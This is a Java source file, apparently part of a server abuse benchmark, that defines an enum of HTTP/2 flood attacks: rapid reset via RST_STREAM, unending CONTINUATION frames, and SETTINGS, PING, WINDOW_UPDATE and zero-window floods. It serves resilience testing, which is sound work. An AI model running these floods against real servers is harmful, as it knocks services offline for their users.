package dev.lockstep.bench.abuse;

import dev.lockstep.bench.abuse.FrameClient.Type;

/** A flood: what one connection does again and again until the server ends it. */
enum Attack {
  RAPID_RESET("rapid reset", 65_535) {
    @Override
    void step(FrameClient client) {
      client.send(Type.RST_STREAM, 0, client.get(), CANCEL);
    }
  },
  MADE_RESET("resets that we must send", 65_535) {
    @Override
    void step(FrameClient client) {
      client.send(Type.WINDOW_UPDATE, 0, client.get(), new byte[4]);
    }
  },
  CONTINUATIONS("CONTINUATION without end", 65_535) {
    @Override
    void step(FrameClient client) {
      client.open();
      for (int i = 0; i < BURST; i++) {
        client.send(Type.CONTINUATION, 0, client.lastStream(), FIELD);
      }
    }
  },
  SETTINGS("SETTINGS", 65_535) {
    @Override
    void step(FrameClient client) {
      client.send(Type.SETTINGS, 0, 0);
    }
  },
  PINGS("PING", 65_535) {
    @Override
    void step(FrameClient client) {
      client.send(Type.PING, 0, 0, new byte[8]);
    }
  },
  WINDOW_UPDATES("WINDOW_UPDATE", 65_535) {
    @Override
    void step(FrameClient client) {
      client.send(Type.WINDOW_UPDATE, 0, 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1);
    }
  },
  CLOSED_WINDOWS("answers behind closed windows", 0) {
    @Override
    void step(FrameClient client) {
      if (client.lastStream() < 2 * STREAMS) {
        client.get();
      }
    }
  };

  private static final byte[] CANCEL = {0, 0, 0, 8};

  /** The field "x: y", not compressed (RFC 7541 6.2.2). */
  private static final byte[] FIELD = {0, 1, 'x', 1, 'y'};

  private static final int BURST = 50;

  /** As many as the server allows at a time. */
  private static final int STREAMS = 100;

  private final String text;
  private final int window;

  Attack(String text, int window) {
    this.text = text;
    this.window = window;
  }

  /** Does it once more. */
  abstract void step(FrameClient client);

  /** {@return its name for people} */
  String text() {
    return text;
  }

  /** {@return how much the attacker lets come on a stream, in bytes} */
  int window() {
    return window;
  }
}
